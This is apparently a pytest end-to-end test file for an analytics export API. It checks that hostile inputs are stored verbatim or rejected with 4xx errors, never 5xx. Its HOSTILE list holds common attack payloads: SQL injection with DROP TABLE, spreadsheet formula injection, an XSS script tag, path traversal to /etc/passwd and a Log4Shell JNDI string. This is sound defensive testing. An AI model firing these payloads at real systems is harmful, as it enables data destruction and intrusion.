"""Hostile strings in every field a caller controls: never a 5xx, stored and returned as plain
data, and nothing outside the caller's org touched."""

from __future__ import annotations

import uuid
from urllib.parse import quote

import aiohttp
import asyncpg
import pytest

from tests.e2e.conftest import Stack, create_export, wait_for_job

pytestmark = pytest.mark.usefixtures("clean_state")
HOSTILE = [
    "'; DROP TABLE analytics.export_jobs; --",
    '" OR "1"="1',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
    "%00%27",
    "\u202ertl-override",
]
BODY = {"timeRange": {"start": "2026-10-01T00:00:00Z", "end": "2026-10-02T00:00:00Z"}, "granularity": "daily"}


async def test_hostile_model_ids_are_plain_data(stack: Stack, http: aiohttp.ClientSession) -> None:
    org = uuid.uuid4()
    job = await create_export(http, stack, org, {**BODY, "models": HOSTILE})
    assert job["models"] == HOSTILE  # stored and returned verbatim, as data
    done = await wait_for_job(http, stack, org, str(job["jobId"]))
    assert done["status"] == "succeeded"
    conn = await asyncpg.connect(stack.settings.database_url)
    try:
        assert (
            await conn.fetchval("SELECT count(*) FROM analytics.export_jobs") >= 1
        )  # the table is still there
    finally:
        await conn.close()


@pytest.mark.parametrize("value", [*HOSTILE, "\x00", "a" * 2_000])
async def test_hostile_values_in_every_other_field_are_4xx_never_5xx(
    stack: Stack, http: aiohttp.ClientSession, value: str
) -> None:
    org = uuid.uuid4()
    url = stack.exports_url(org)
    attempts = [
        ("POST", url, {**BODY, "granularity": value}, {}),
        ("POST", url, {**BODY, "timeRange": {"start": value, "end": "2026-10-02T00:00:00Z"}}, {}),
        ("POST", url, {**BODY, value: 1}, {}),
        ("GET", f"{url}?status={quote(value)}", None, {}),
        ("GET", f"{url}?cursor={quote(value)}", None, {}),
        ("GET", f"{url}?limit={quote(value)}", None, {}),
        ("GET", f"{url}/{quote(value, safe='')}", None, {}),
        ("POST", f"{url}/{quote(value, safe='')}/cancel", None, {}),
    ]
    if value.isascii() and value.isprintable() and " " not in value and len(value) <= 255:
        attempts.append(("POST", url, BODY, {"Idempotency-Key": value}))  # a valid, odd-looking key
    for method, target, body, headers in attempts:
        async with http.request(method, target, json=body, headers={**stack.auth(org), **headers}) as reply:
            assert reply.status < 500, (method, target, reply.status, await reply.text())
            if reply.status >= 400:
                assert reply.content_type == "application/problem+json"


async def test_an_oversized_request_line_is_refused_by_the_http_layer(
    stack: Stack, http: aiohttp.ClientSession
) -> None:
    # aiohttp's parser refuses a request line over 8 KiB before any handler runs: a plain 4xx,
    # the one error that is not problem+json (documented in docs/security.md).
    org = uuid.uuid4()
    async with http.get(f"{stack.exports_url(org)}?cursor={'a' * 10_000}", headers=stack.auth(org)) as reply:
        assert 400 <= reply.status < 500
